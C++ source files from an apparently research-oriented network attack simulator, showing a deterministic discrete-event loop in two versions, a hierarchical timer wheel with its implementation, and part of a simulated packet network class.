  /// spoofing is permitted by design. Packets to unknown destinations are
  /// silently dropped (like the real Internet, no ICMP host-unreachable is
  /// guaranteed). The rvalue overload moves the payload into the delivery
  /// event — the hot path for senders that are done with the packet.
  void send(net::Ipv4Packet&& pkt);
  void send(const net::Ipv4Packet& pkt) { send(net::Ipv4Packet{pkt}); }

  /// Total packets accepted into the network (pre-loss); used by tests and
  /// by the attack-volume accounting in the benches.
  [[nodiscard]] u64 packets_sent() const { return packets_sent_; }
  [[nodiscard]] u64 packets_delivered() const { return packets_delivered_; }

  [[nodiscard]] EventLoop& loop() { return loop_; }

 private:
  static u64 key(Ipv4Addr a, Ipv4Addr b) {
    return (u64{a.value()} << 32) | b.value();
  }
  [[nodiscard]] const LinkProfile& profile_for(Ipv4Addr src,
                                               Ipv4Addr dst) const {
    auto it = profiles_.find(key(src, dst));
    return it == profiles_.end() ? default_profile_ : it->second;
  }

  EventLoop& loop_;
  Rng rng_;
  LinkProfile default_profile_;
  std::unordered_map<Ipv4Addr, PacketSink*> sinks_;
  std::unordered_map<u64, LinkProfile> profiles_;
  u64 packets_sent_ = 0;
  u64 packets_delivered_ = 0;
};

}  // namespace dnstime::sim
