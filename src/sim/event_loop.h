// Deterministic discrete-event loop.
//
// Events at equal timestamps are ordered by insertion sequence, so a
// scenario replays identically for a fixed RNG seed regardless of container
// iteration quirks. This determinism is what lets the Table II attack
// durations be regression-tested.
#pragma once

#include <cstdint>
#include <functional>
#include <memory>
#include <queue>
#include <vector>

#include "sim/time.h"

namespace dnstime::sim {

using EventFn = std::function<void()>;

/// Handle used to cancel a scheduled event. Cancellation is lazy: the event
/// stays queued but is skipped when popped.
class EventHandle {
 public:
  EventHandle() = default;

  void cancel() {
    if (cancelled_) *cancelled_ = true;
  }
  [[nodiscard]] bool valid() const { return cancelled_ != nullptr; }

 private:
  friend class EventLoop;
  explicit EventHandle(std::shared_ptr<bool> c) : cancelled_(std::move(c)) {}
  std::shared_ptr<bool> cancelled_;
};

class EventLoop {
 public:
  [[nodiscard]] Time now() const { return now_; }

  /// Schedule `fn` to run at absolute time `at` (clamped to >= now).
  EventHandle schedule_at(Time at, EventFn fn) {
    if (at < now_) at = now_;
    auto cancelled = std::make_shared<bool>(false);
    queue_.push(Event{at, seq_++, std::move(fn), cancelled});
    return EventHandle{cancelled};
  }

  EventHandle schedule_after(Duration d, EventFn fn) {
    return schedule_at(now_ + d, std::move(fn));
  }

  /// Run events until the queue drains or `until` is reached. Events at
  /// exactly `until` still run; the clock never advances past `until`.
  void run_until(Time until) {
    while (!queue_.empty()) {
      const Event& top = queue_.top();
      if (top.at > until) break;
      Event ev = top;
      queue_.pop();
      now_ = ev.at;
      if (!*ev.cancelled) ev.fn();
    }
    if (now_ < until) now_ = until;
  }

  void run_for(Duration d) { run_until(now_ + d); }

  /// Drain every queued event (useful in unit tests of small exchanges).
  void run_all() {
    while (!queue_.empty()) {
      Event ev = queue_.top();
      queue_.pop();
      now_ = ev.at;
      if (!*ev.cancelled) ev.fn();
    }
  }

  [[nodiscard]] std::size_t pending() const { return queue_.size(); }

 private:
  struct Event {
    Time at;
    u64 seq;
    EventFn fn;
    std::shared_ptr<bool> cancelled;
  };
  struct Later {
    bool operator()(const Event& a, const Event& b) const {
      if (a.at != b.at) return a.at > b.at;
      return a.seq > b.seq;
    }
  };

  Time now_;
  u64 seq_ = 0;
  std::priority_queue<Event, std::vector<Event>, Later> queue_;
};

}  // namespace dnstime::sim
