// Deterministic discrete-event loop.
//
// Events at equal timestamps are ordered by insertion sequence, so a
// scenario replays identically for a fixed RNG seed regardless of container
// iteration quirks. This determinism is what lets the Table II attack
// durations be regression-tested. See src/sim/README.md for the full
// contract.
//
// The implementation is built for the campaign engine's hot path
// (millions of schedule/fire cycles per trial batch):
//  * a 4-ary implicit heap over a flat vector of 24-byte POD nodes
//    {time, seq, slot} — shallower than a binary heap, and sift-up/down
//    shuffle plain values, never callbacks (std::priority_queue::top() is
//    const, which forced the old loop to deep-copy the callback on every
//    dispatch);
//  * callbacks live in a slot pool recycled through a free-list, so each
//    callback is moved exactly once (caller into slot) and the
//    steady-state schedule/fire cycle allocates nothing beyond what the
//    callback capture itself needs;
//  * slots carry a generation counter that backs cancellation handles —
//    a stale handle can never touch the slot's next occupant;
//  * callbacks are SmallFn (src/common/function.h): move-only with a
//    64-byte inline buffer, so a typical capture (object pointer + packet)
//    never touches the heap.
#pragma once

#include <algorithm>
#include <cstdint>
#include <limits>
#include <vector>

#include "common/function.h"
#include "obs/counters.h"
#include "sim/time.h"

namespace dnstime::sim {

using EventFn = SmallFn<void()>;

class EventLoop;

/// Handle used to cancel a scheduled event. The heap node stays queued until
/// its timestamp pops (and is then skipped), but the callback itself is
/// destroyed eagerly by cancel(): a cancelled callback can capture resources
/// with global accounting (a PacketBuf keeping pool blocks outstanding, an
/// object keep-alive) and must not pin them until some far-future timestamp
/// is reached. Handles are generation-checked:
/// once the event has fired or been cancelled, the handle goes stale and
/// cancel() is a no-op even if the internal slot has been recycled for a
/// newer event. A handle must not outlive its EventLoop (holders in this
/// codebase all reference the loop through World/Network, which guarantees
/// the ordering).
class EventHandle {
 public:
  EventHandle() = default;

  inline void cancel();
  /// True while the event is still queued, uncancelled and unfired.
  [[nodiscard]] inline bool valid() const;

 private:
  friend class EventLoop;
  EventHandle(EventLoop* loop, u32 slot, u32 gen)
      : loop_(loop), slot_(slot), gen_(gen) {}

  EventLoop* loop_ = nullptr;
  u32 slot_ = 0;
  u32 gen_ = 0;
};

class EventLoop {
 public:
  /// Lifetime counters, kept as plain members (one increment per event —
  /// cheap enough for the schedule/fire hot path) and folded into the
  /// obs registry once, at loop destruction.
  struct Stats {
    u64 scheduled = 0;  ///< events accepted by schedule_at
    u64 fired = 0;      ///< callbacks actually run
    u64 cancelled = 0;  ///< events popped in the cancelled state
    u64 heap_peak = 0;  ///< high-water mark of the pending-event heap
  };

  EventLoop() = default;
  ~EventLoop() {
    DNSTIME_COUNT_ADD("sim.events_scheduled", stats_.scheduled);
    DNSTIME_COUNT_ADD("sim.events_fired", stats_.fired);
    DNSTIME_COUNT_ADD("sim.events_cancelled", stats_.cancelled);
    if (stats_.heap_peak != 0) DNSTIME_HIST("sim.heap_peak", stats_.heap_peak);
  }
  // Pinned in place: EventHandles hold a pointer back to their loop, so
  // moving or copying the loop would silently invalidate every
  // outstanding handle. Deleting these makes the invariant
  // compiler-checked.
  EventLoop(const EventLoop&) = delete;
  EventLoop& operator=(const EventLoop&) = delete;

  [[nodiscard]] Time now() const { return now_; }

  /// Schedule `fn` to run at absolute time `at` (clamped to >= now).
  EventHandle schedule_at(Time at, EventFn fn) {
    if (at < now_) at = now_;
    const u32 slot = acquire_slot(std::move(fn));
    heap_push(Node{at, seq_++, slot});
    stats_.scheduled++;
    if (heap_.size() > stats_.heap_peak) stats_.heap_peak = heap_.size();
    return EventHandle{this, slot, slots_[slot].gen};
  }

  EventHandle schedule_after(Duration d, EventFn fn) {
    return schedule_at(now_ + d, std::move(fn));
  }

  /// Run events until the queue drains or `until` is reached. Events at
  /// exactly `until` still run; the clock never advances past `until`.
  void run_until(Time until) {
    while (!heap_.empty() && heap_.front().at <= until) {
      step();
    }
    if (now_ < until) now_ = until;
  }

  void run_for(Duration d) { run_until(now_ + d); }

  /// Drain every queued event (useful in unit tests of small exchanges).
  void run_all() {
    while (!heap_.empty()) step();
  }

  /// Queued events, including lazily-cancelled ones not yet popped.
  [[nodiscard]] std::size_t pending() const { return heap_.size(); }

  [[nodiscard]] const Stats& stats() const { return stats_; }

 private:
  friend class EventHandle;

  static constexpr u32 kNoSlot = std::numeric_limits<u32>::max();
  static constexpr std::size_t kArity = 4;

  /// Heap node: trivially copyable, 24 bytes. The callback stays in its
  /// slot; only these shuffle during sifts.
  struct Node {
    Time at;
    u64 seq;
    u32 slot;
  };
  /// One in-flight event: the callback plus the cancellation state its
  /// handle checks. Recycled through a free-list; `gen` increments on
  /// every release so stale handles can never touch the next occupant.
  struct Slot {
    EventFn fn;
    u32 gen = 0;
    u32 next_free = kNoSlot;
    bool live = false;
    bool cancelled = false;
  };

  static bool earlier(const Node& a, const Node& b) {
    if (a.at != b.at) return a.at < b.at;
    return a.seq < b.seq;
  }

  /// Pop the top event, advance the clock, release the slot, and run the
  /// callback unless cancelled. The slot is released *before* the callback
  /// runs, so a callback that schedules may reuse it — generation bumping
  /// keeps old handles inert.
  void step() {
    const Node top = heap_pop();
    now_ = top.at;
    const bool cancelled = slots_[top.slot].cancelled;
    EventFn fn = std::move(slots_[top.slot].fn);
    release_slot(top.slot);
    if (cancelled) {
      stats_.cancelled++;
      return;
    }
    stats_.fired++;
    fn();
  }

  u32 acquire_slot(EventFn fn) {
    u32 s;
    if (free_head_ != kNoSlot) {
      s = free_head_;
      free_head_ = slots_[s].next_free;
      slots_[s].fn = std::move(fn);
    } else {
      s = static_cast<u32>(slots_.size());
      slots_.push_back(Slot{.fn = std::move(fn)});
    }
    slots_[s].live = true;
    slots_[s].cancelled = false;
    return s;
  }

  void release_slot(u32 s) {
    slots_[s].gen++;
    slots_[s].live = false;
    slots_[s].next_free = free_head_;
    free_head_ = s;
  }

  void heap_push(Node node) {
    std::size_t i = heap_.size();
    heap_.push_back(node);
    while (i > 0) {
      std::size_t parent = (i - 1) / kArity;
      if (!earlier(node, heap_[parent])) break;
      heap_[i] = heap_[parent];
      i = parent;
    }
    heap_[i] = node;
  }

  Node heap_pop() {
    const Node out = heap_.front();
    const Node last = heap_.back();
    heap_.pop_back();
    if (!heap_.empty()) {
      // Sift `last` down from the root, pulling smaller children up into
      // the hole instead of swapping element pairs.
      std::size_t i = 0;
      const std::size_t n = heap_.size();
      for (;;) {
        std::size_t first_child = i * kArity + 1;
        if (first_child >= n) break;
        std::size_t best = first_child;
        std::size_t end = std::min(first_child + kArity, n);
        for (std::size_t c = first_child + 1; c < end; ++c) {
          if (earlier(heap_[c], heap_[best])) best = c;
        }
        if (!earlier(heap_[best], last)) break;
        heap_[i] = heap_[best];
        i = best;
      }
      heap_[i] = last;
    }
    return out;
  }

  Time now_;
  u64 seq_ = 0;
  std::vector<Node> heap_;
  std::vector<Slot> slots_;
  u32 free_head_ = kNoSlot;
  Stats stats_;
};

inline void EventHandle::cancel() {
  if (loop_ == nullptr) return;
  auto& s = loop_->slots_[slot_];
  if (s.live && s.gen == gen_) {
    s.cancelled = true;
    // Release captured resources now, not when the timestamp pops: step()
    // only invokes the callback when uncancelled, so an empty fn is safe.
    s.fn = EventFn{};
  }
}

inline bool EventHandle::valid() const {
  if (loop_ == nullptr) return false;
  const auto& s = loop_->slots_[slot_];
  return s.live && s.gen == gen_ && !s.cancelled;
}

}  // namespace dnstime::sim
