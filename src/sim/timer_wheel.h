// Hierarchical timer wheel — the population-scale sibling of EventLoop.
//
// EventLoop's 4-ary heap is the right shape for the single-victim worlds
// (tens of thousands of heterogeneous events, O(log n) each). A population
// world schedules millions of near-identical periodic poll timers, where a
// heap wastes its comparisons: a hashed hierarchical wheel places a timer
// in O(1) and pays O(1) amortised per fire (each entry cascades at most
// once per level). See src/sim/README.md for the heap-vs-wheel selection
// guidance.
//
// Determinism contract (same replay contract as EventLoop, validated
// against it as an oracle in tests/sim/timer_wheel_test.cpp):
//  * entries fire in (time, insertion-sequence) order — equal deadlines
//    fire FIFO, regardless of which bucket or cascade path delivered them;
//  * the firing order is a pure function of the push/cancel call sequence:
//    no container iteration order, host clock or allocator address leaks
//    into it.
//
// Two layers:
//  * WheelQueue — the pure priority structure over {time, seq, payload}
//    words. ClientPopulation drives it directly with client indices as
//    payloads (24 bytes per armed timer, no callbacks).
//  * TimerWheel — an EventLoop-compatible façade (schedule_at/run_until/
//    cancellation handles/SmallFn callbacks) for code that wants wheel
//    scaling behind the familiar loop API.
#pragma once

#include <array>
#include <cstdint>
#include <limits>
#include <vector>

#include "common/function.h"
#include "obs/counters.h"
#include "sim/event_loop.h"
#include "sim/time.h"

namespace dnstime::sim {

/// One queued deadline: absolute time, global insertion sequence (the FIFO
/// tie-breaker) and a caller-owned payload word. Trivially copyable, 24
/// bytes — buckets shuffle these, never callbacks.
struct WheelEntry {
  Time at;
  u64 seq = 0;
  u32 payload = 0;
};

/// Monotone priority queue on a hashed hierarchical wheel: 4 levels x 256
/// slots at a 2^20 ns (~1.05 ms) tick, per-level occupancy bitmaps for
/// skip-scanning, and an overflow list for deadlines beyond the ~52-day
/// horizon. Entries that reach the cursor's tick collect in a small
/// (time, seq)-ordered ready heap, which is what makes intra-tick ordering
/// exact rather than bucket-granular.
class WheelQueue {
 public:
  WheelQueue() = default;
  WheelQueue(const WheelQueue&) = delete;
  WheelQueue& operator=(const WheelQueue&) = delete;

  /// Queue `payload` for time `at`. Entries at equal times pop in push
  /// order. Pushing a time at or before the last popped entry is allowed;
  /// it becomes immediately ready (TimerWheel clamps, so this only arises
  /// for deliberately-stale pushes).
  void push(Time at, u32 payload);

  /// Remove the queued entry carrying `payload` in O(1): a cancelled
  /// timer skips bucket storage, cascades and the ready heap entirely
  /// instead of riding the wheel to its deadline as a tombstone.
  /// Requires that at most one queued entry carries any given payload
  /// (TimerWheel recycles a slot only after its entry leaves the queue,
  /// and ClientPopulation arms one timer per client). Returns false when
  /// no such entry exists *or* the entry already reached the ready heap —
  /// heap middles cannot be removed in O(1), so ready entries stay for
  /// the caller to tombstone and skip at pop.
  ///
  /// The first call enables payload location tracking with an O(size)
  /// scan; from then on every entry move maintains an 8-byte location
  /// record. Workloads that never cancel pay one predicted-false branch
  /// per move and no memory.
  bool cancel(u32 payload);

  /// Earliest entry by (at, seq), or nullptr when empty. Non-const: may
  /// advance the cursor and cascade buckets to surface the head.
  [[nodiscard]] const WheelEntry* peek();

  /// Pop the earliest entry into `out`; false when empty.
  bool pop(WheelEntry& out);

  [[nodiscard]] std::size_t size() const { return size_; }
  [[nodiscard]] bool empty() const { return size_ == 0; }
  /// Bucket re-distributions performed so far (cost visibility for bench).
  [[nodiscard]] u64 cascades() const { return cascades_; }
  /// Heap bytes held by buckets/ready/overflow (capacity, not size) — the
  /// population worlds budget wheel memory per client.
  [[nodiscard]] std::size_t memory_bytes() const;

 private:
  static constexpr u32 kTickBits = 20;  ///< 1 tick ~ 1.05 ms of sim time
  static constexpr u32 kLevelBits = 8;
  static constexpr u32 kSlots = 1u << kLevelBits;
  static constexpr u32 kLevels = 4;
  static constexpr u32 kWords = kSlots / 64;
  /// Ticks covered by the wheel proper; beyond this, entries overflow.
  static constexpr u64 kHorizon = 1ull << (kLevelBits * kLevels);
  /// A drained bucket keeps at most this much capacity; larger buffers are
  /// released so population-scale cohorts don't park memory wheel-wide.
  static constexpr std::size_t kBucketKeepEntries = 64;

  using Bitmap = std::array<u64, kWords>;

  [[nodiscard]] static u64 tick_of(Time at) {
    const i64 ns = at.ns();
    return ns <= 0 ? 0 : static_cast<u64>(ns) >> kTickBits;
  }

  /// Later-than ordering on (at, seq); heap functions with this comparator
  /// make ready_ a min-heap. seq is unique, so this is a total order and
  /// the pop sequence is implementation-independent.
  [[nodiscard]] static bool later(const WheelEntry& a, const WheelEntry& b) {
    if (a.at != b.at) return a.at > b.at;
    return a.seq > b.seq;
  }

  /// First set bit at index >= from, or -1.
  [[nodiscard]] static int scan_from(const Bitmap& bm, u32 from);

  void place(const WheelEntry& e);
  static void trim_drained(std::vector<WheelEntry>& bucket);
  void cascade(u32 level, u32 pos);
  void drain_level0(u32 pos);
  void refill_from_overflow();
  /// Move the cursor forward, cascading and draining, until the ready heap
  /// holds the global minimum. Precondition: ready empty implies size_ > 0.
  void advance_to_ready();

  void ready_push(const WheelEntry& e);

  /// Where a queued entry currently lives, indexed by payload (only
  /// maintained once track_ is on). kLocReady records membership only:
  /// heap positions shuffle under sift, so cancel() refuses ready
  /// entries rather than tracking them.
  enum : u8 { kLocNone = 0, kLocBucket, kLocReady, kLocOverflow };
  struct Loc {
    u8 where = kLocNone;
    u8 level = 0;
    u8 slot = 0;    ///< bucket position; kSlots == 256 makes u8 exact
    u32 index = 0;  ///< position inside the bucket / overflow vector
  };
  /// Out of line on purpose: set_loc sits on never-taken branches inside
  /// place()/ready_push()/pop(), and inlining its body (with the resize
  /// slow path) into those hot loops measurably regresses the no-cancel
  /// workloads (poll_fleet) through code growth alone.
  void set_loc(u32 payload, u8 where, u8 level, u8 slot, u32 index);
  /// Build loc_ for everything currently queued; flips track_ on.
  void enable_tracking();

  u64 cur_ = 0;  ///< cursor tick; wheel buckets only hold ticks > cur_
  u64 next_seq_ = 0;
  std::size_t size_ = 0;
  u64 cascades_ = 0;
  /// Lives with the hot cursor fields, not after the ~24 KB of bucket
  /// headers: place()/pop() test it on every call, and banishing it to the
  /// object's tail would add a distant cache line to the per-event
  /// working set.
  bool track_ = false;  ///< set by the first cancel()
  std::array<Bitmap, kLevels> bitmap_{};
  std::array<std::array<std::vector<WheelEntry>, kSlots>, kLevels> buckets_;
  std::vector<WheelEntry> ready_;     ///< min-heap on (at, seq)
  std::vector<WheelEntry> overflow_;  ///< deadlines beyond kHorizon ticks
  u64 overflow_min_ = std::numeric_limits<u64>::max();  ///< min overflow tick
  std::vector<WheelEntry> scratch_;   ///< cascade staging, reused
  std::vector<Loc> loc_;              ///< payload -> current location
};

class TimerWheel;

/// Cancellation handle for TimerWheel events; same semantics as
/// EventHandle, including the eager destruction of the callback on cancel
/// (captured resources are released immediately, not when the deadline's
/// wheel entry eventually pops).
class WheelHandle {
 public:
  WheelHandle() = default;

  inline void cancel();
  [[nodiscard]] inline bool valid() const;

 private:
  friend class TimerWheel;
  WheelHandle(TimerWheel* wheel, u32 slot, u32 gen)
      : wheel_(wheel), slot_(slot), gen_(gen) {}

  TimerWheel* wheel_ = nullptr;
  u32 slot_ = 0;
  u32 gen_ = 0;
};

/// EventLoop-compatible loop façade over WheelQueue: same clamping, same
/// run_until boundary semantics ("events at exactly `until` still run"),
/// same generation-checked cancellation. Cancellation is stronger than
/// EventLoop's tombstones: the wheel entry is removed in O(1), so a
/// cancelled deadline never pops and never advances the clock (only an
/// entry already staged in the ready heap falls back to tombstone-and-
/// skip). The property test in tests/sim/timer_wheel_test.cpp drives
/// identical call streams through both and asserts identical firing order
/// and identical clocks at run_until boundaries.
class TimerWheel {
 public:
  struct Stats {
    u64 scheduled = 0;
    u64 fired = 0;
    u64 cancelled = 0;
    u64 pending_peak = 0;
  };

  TimerWheel() = default;
  ~TimerWheel() {
    DNSTIME_COUNT_ADD("sim.wheel_scheduled", stats_.scheduled);
    DNSTIME_COUNT_ADD("sim.wheel_fired", stats_.fired);
    DNSTIME_COUNT_ADD("sim.wheel_cancelled", stats_.cancelled);
    if (stats_.pending_peak != 0) {
      DNSTIME_HIST("sim.wheel_pending_peak", stats_.pending_peak);
    }
  }
  TimerWheel(const TimerWheel&) = delete;
  TimerWheel& operator=(const TimerWheel&) = delete;

  [[nodiscard]] Time now() const { return now_; }

  /// Schedule `fn` at absolute time `at` (clamped to >= now).
  WheelHandle schedule_at(Time at, EventFn fn) {
    if (at < now_) at = now_;
    const u32 slot = acquire_slot(std::move(fn));
    queue_.push(at, slot);
    stats_.scheduled++;
    if (queue_.size() > stats_.pending_peak) {
      stats_.pending_peak = queue_.size();
    }
    return WheelHandle{this, slot, slots_[slot].gen};
  }

  WheelHandle schedule_after(Duration d, EventFn fn) {
    return schedule_at(now_ + d, std::move(fn));
  }

  /// Run events until the queue drains or `until` is reached. Events at
  /// exactly `until` still run; the clock never advances past `until`.
  void run_until(Time until) {
    while (const WheelEntry* top = queue_.peek()) {
      if (top->at > until) break;
      step();
    }
    if (now_ < until) now_ = until;
  }

  void run_for(Duration d) { run_until(now_ + d); }

  void run_all() {
    while (queue_.peek() != nullptr) step();
  }

  /// Queued events. Cancelled events leave the queue immediately unless
  /// they were already staged in the ready heap (those linger as
  /// tombstones until popped).
  [[nodiscard]] std::size_t pending() const { return queue_.size(); }

  [[nodiscard]] const Stats& stats() const { return stats_; }

 private:
  friend class WheelHandle;

  static constexpr u32 kNoSlot = std::numeric_limits<u32>::max();

  struct Slot {
    EventFn fn;
    u32 gen = 0;
    u32 next_free = kNoSlot;
    bool live = false;
    bool cancelled = false;
  };

  void step() {
    WheelEntry e;
    queue_.pop(e);
    now_ = e.at;
    const u32 slot = e.payload;
    // Only ready-heap tombstones reach here: cancel_slot removed every
    // other cancelled entry from the queue outright (and counted it).
    const bool cancelled = slots_[slot].cancelled;
    EventFn fn = std::move(slots_[slot].fn);
    release_slot(slot);
    if (cancelled) return;
    stats_.fired++;
    fn();
  }

  void cancel_slot(u32 slot, u32 gen) {
    Slot& s = slots_[slot];
    if (!s.live || s.gen != gen || s.cancelled) return;
    stats_.cancelled++;
    s.fn = EventFn{};  // release captured resources now, as EventHandle does
    if (queue_.cancel(slot)) {
      // The entry left the queue, so nothing will ever pop this slot:
      // recycle it immediately.
      release_slot(slot);
    } else {
      // Already staged in the ready heap: tombstone it; step() skips the
      // callback when the entry pops.
      s.cancelled = true;
    }
  }

  u32 acquire_slot(EventFn fn) {
    u32 s;
    if (free_head_ != kNoSlot) {
      s = free_head_;
      free_head_ = slots_[s].next_free;
      slots_[s].fn = std::move(fn);
    } else {
      s = static_cast<u32>(slots_.size());
      slots_.push_back(Slot{.fn = std::move(fn)});
    }
    slots_[s].live = true;
    slots_[s].cancelled = false;
    return s;
  }

  void release_slot(u32 s) {
    slots_[s].gen++;
    slots_[s].live = false;
    slots_[s].next_free = free_head_;
    free_head_ = s;
  }

  Time now_;
  WheelQueue queue_;
  std::vector<Slot> slots_;
  u32 free_head_ = kNoSlot;
  Stats stats_;
};

inline void WheelHandle::cancel() {
  if (wheel_ != nullptr) wheel_->cancel_slot(slot_, gen_);
}

inline bool WheelHandle::valid() const {
  if (wheel_ == nullptr) return false;
  const auto& s = wheel_->slots_[slot_];
  return s.live && s.gen == gen_ && !s.cancelled;
}

}  // namespace dnstime::sim
