// EventLoop is header-only for inlining; this translation unit exists to
// give the sim library an archive member and to host the static assert
// sanity checks on the time types.
#include "sim/event_loop.h"

namespace dnstime::sim {

static_assert(Duration::seconds(1).ns() == 1'000'000'000);
static_assert(Duration::minutes(2) == Duration::seconds(120));
static_assert(Time::from_ns(5) + Duration::nanos(3) == Time::from_ns(8));
static_assert(Time::from_ns(5) - Time::from_ns(2) == Duration::nanos(3));

}  // namespace dnstime::sim
