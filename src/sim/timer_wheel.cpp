#include "sim/timer_wheel.h"

#include <algorithm>
#include <cassert>

namespace dnstime::sim {

// Placement and advancement both reason in "ticks" (time >> kTickBits).
// Invariants the proofs in the comments below lean on:
//  * the cursor only moves forward, and only to the minimal candidate tick
//    over every occupied bucket — so no occupied bucket is ever skipped;
//  * a level-0 bucket holds exactly one tick value at a time (two ticks in
//    the same slot differ by a multiple of 256, but level-0 placement
//    requires delta < 256 from a cursor that only grows);
//  * for levels >= 1, the bucket at the cursor's own slot is always empty:
//    a placement landing there would have delta < 256^level and therefore
//    goes to a lower level instead, and jumps cascade the bucket they land
//    on in the same step.

int WheelQueue::scan_from(const Bitmap& bm, u32 from) {
  if (from >= kSlots) return -1;
  u32 w = from >> 6;
  u64 word = bm[w] & (~0ull << (from & 63));
  for (;;) {
    if (word != 0) {
      return static_cast<int>(w * 64 +
                              static_cast<u32>(__builtin_ctzll(word)));
    }
    if (++w == kWords) return -1;
    word = bm[w];
  }
}

void WheelQueue::push(Time at, u32 payload) {
  assert(!track_ || payload >= loc_.size() ||
         loc_[payload].where == kLocNone);
  place(WheelEntry{at, next_seq_++, payload});
  size_++;
}

void WheelQueue::place(const WheelEntry& e) {
  const u64 tick = tick_of(e.at);
  if (tick <= cur_) {
    ready_push(e);
    return;
  }
  const u64 delta = tick - cur_;
  if (delta >= kHorizon) {
    overflow_.push_back(e);
    if (tick < overflow_min_) overflow_min_ = tick;
    if (track_) [[unlikely]] {
      set_loc(e.payload, kLocOverflow, 0, 0,
              static_cast<u32>(overflow_.size() - 1));
    }
    return;
  }
  u32 level = 0;
  while (delta >> (kLevelBits * (level + 1)) != 0) level++;
  const u32 pos =
      static_cast<u32>((tick >> (kLevelBits * level)) & (kSlots - 1));
  auto& bucket = buckets_[level][pos];
  if (bucket.size() == bucket.capacity()) {
    // Grow cohort buckets at 1.25x, not the libstdc++ 2x: with 10^7-scale
    // cohorts the doubling slack alone busts the population's 64 B/client
    // budget, and the extra copies amortise to ~3 entry-copies per push.
    bucket.reserve(bucket.capacity() + bucket.capacity() / 4 + 8);
  }
  bucket.push_back(e);
  bitmap_[level][pos >> 6] |= 1ull << (pos & 63);
  if (track_) [[unlikely]] {
    set_loc(e.payload, kLocBucket, static_cast<u8>(level),
            static_cast<u8>(pos), static_cast<u32>(bucket.size() - 1));
  }
}

void WheelQueue::ready_push(const WheelEntry& e) {
  ready_.push_back(e);
  std::push_heap(ready_.begin(), ready_.end(), later);
  if (track_) [[unlikely]] set_loc(e.payload, kLocReady, 0, 0, 0);
}

void WheelQueue::set_loc(u32 payload, u8 where, u8 level, u8 slot,
                         u32 index) {
  if (payload >= loc_.size()) loc_.resize(payload + 1);
  loc_[payload] = Loc{where, level, slot, index};
}

void WheelQueue::trim_drained(std::vector<WheelEntry>& bucket) {
  // A drained bucket that keeps a cohort-sized buffer parks that memory in
  // one of 1024 slots it may not revisit for a long time; at population
  // scale (10^5+ armed timers, dense per-second cohorts) that slack
  // dominates resident size. Release anything beyond a small keep
  // threshold — the next cohort regrows it with O(log n) reallocations,
  // amortised noise against n pushes.
  if (bucket.capacity() > kBucketKeepEntries) {
    std::vector<WheelEntry>().swap(bucket);
  } else {
    bucket.clear();
  }
}

void WheelQueue::cascade(u32 level, u32 pos) {
  bitmap_[level][pos >> 6] &= ~(1ull << (pos & 63));
  auto& bucket = buckets_[level][pos];
  scratch_.clear();
  scratch_.swap(bucket);
  // The swap parked scratch_'s old buffer in the drained bucket; trim it
  // so cascades do not scatter cohort-sized buffers across the wheel.
  trim_drained(bucket);
  for (const WheelEntry& e : scratch_) place(e);
  cascades_++;
}

void WheelQueue::drain_level0(u32 pos) {
  bitmap_[0][pos >> 6] &= ~(1ull << (pos & 63));
  auto& bucket = buckets_[0][pos];
  for (const WheelEntry& e : bucket) {
    assert(tick_of(e.at) == cur_);
    ready_push(e);
  }
  trim_drained(bucket);
}

void WheelQueue::refill_from_overflow() {
  scratch_.clear();
  scratch_.swap(overflow_);
  overflow_min_ = std::numeric_limits<u64>::max();
  for (const WheelEntry& e : scratch_) place(e);
}

void WheelQueue::advance_to_ready() {
  for (;;) {
    // Overflow entries must re-enter the wheel as soon as their tick is
    // within the horizon — a later push can land *beyond* an overflow
    // entry's deadline, so overflow cannot simply wait for the wheel to
    // drain.
    if (!overflow_.empty() && overflow_min_ < cur_ + kHorizon) {
      refill_from_overflow();
      continue;
    }

    // Per-level candidate: the smallest tick any occupied bucket could
    // deliver. Level 0 buckets hold a single tick, so their candidate is
    // exact; higher levels use the bucket's start tick (a lower bound),
    // which is safe because every entry in the bucket is >= it.
    u64 cand_tick[kLevels];
    int cand_pos[kLevels];
    u64 best = std::numeric_limits<u64>::max();
    for (u32 l = 0; l < kLevels; ++l) {
      cand_tick[l] = std::numeric_limits<u64>::max();
      cand_pos[l] = -1;
      const u32 shift = kLevelBits * l;
      const u64 unit_cursor = cur_ >> shift;
      const u32 sl = static_cast<u32>(unit_cursor & (kSlots - 1));
      if (l == 0) {
        int p = scan_from(bitmap_[0], sl);
        if (p < 0) p = scan_from(bitmap_[0], 0);  // wrapped: next window
        if (p >= 0) {
          cand_pos[0] = p;
          cand_tick[0] = tick_of(buckets_[0][static_cast<u32>(p)].front().at);
        }
      } else {
        int p = scan_from(bitmap_[l], sl + 1);
        u64 unit = 0;
        if (p >= 0) {
          unit = (unit_cursor - sl) + static_cast<u32>(p);
        } else {
          p = scan_from(bitmap_[l], 0);  // wrapped: next window
          if (p >= 0) unit = (unit_cursor - sl) + kSlots + static_cast<u32>(p);
        }
        if (p >= 0) {
          cand_pos[l] = p;
          cand_tick[l] = unit << shift;
        }
      }
      if (cand_tick[l] < best) best = cand_tick[l];
    }

    if (best == std::numeric_limits<u64>::max()) {
      // Wheel empty. Either the ready heap already has the minimum, or
      // only far-future overflow remains: jump the cursor near it so the
      // refill branch above picks it up.
      if (!ready_.empty() || overflow_.empty()) return;
      cur_ = overflow_min_ & ~(kHorizon - 1);
      continue;
    }
    if (!ready_.empty() && best > cur_) return;

    // Process *every* bucket whose candidate tick ties the minimum,
    // highest level first: a jump makes the landed-on slot the current one
    // at each level, and the current slot is never rescanned, so a tied
    // bucket left unprocessed here would be orphaned.
    cur_ = best;
    for (u32 l = kLevels; l-- > 1;) {
      if (cand_tick[l] == best) {
        cascade(l, static_cast<u32>(cand_pos[l]));
      }
    }
    if (cand_tick[0] == best) drain_level0(static_cast<u32>(cand_pos[0]));
  }
}

std::size_t WheelQueue::memory_bytes() const {
  std::size_t bytes = sizeof(*this);
  for (const auto& level : buckets_) {
    for (const auto& bucket : level) {
      bytes += bucket.capacity() * sizeof(WheelEntry);
    }
  }
  bytes += ready_.capacity() * sizeof(WheelEntry);
  bytes += overflow_.capacity() * sizeof(WheelEntry);
  bytes += scratch_.capacity() * sizeof(WheelEntry);
  bytes += loc_.capacity() * sizeof(Loc);
  return bytes;
}

const WheelEntry* WheelQueue::peek() {
  if (size_ == 0) return nullptr;
  if (ready_.empty()) advance_to_ready();
  return &ready_.front();
}

bool WheelQueue::pop(WheelEntry& out) {
  if (peek() == nullptr) return false;
  out = ready_.front();
  std::pop_heap(ready_.begin(), ready_.end(), later);
  ready_.pop_back();
  size_--;
  if (track_) [[unlikely]] {
    if (out.payload < loc_.size()) loc_[out.payload].where = kLocNone;
  }
  return true;
}

